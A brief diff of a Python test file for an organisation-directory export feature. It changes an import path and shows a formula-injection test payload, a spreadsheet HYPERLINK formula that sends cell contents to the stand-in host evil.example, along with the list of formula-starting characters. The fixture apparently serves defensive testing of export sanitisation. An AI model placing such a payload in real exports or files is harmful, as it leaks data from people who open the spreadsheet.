@@ -13,7 +13,7 @@ import io
 
 from referrals.directory import hsds
 from referrals.directory.manage import OrganizationDetails, save_organization
-from tests.directory.test_hsds import unzip, zip_of
+from tests.referrals.directory.test_hsds import unzip, zip_of
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
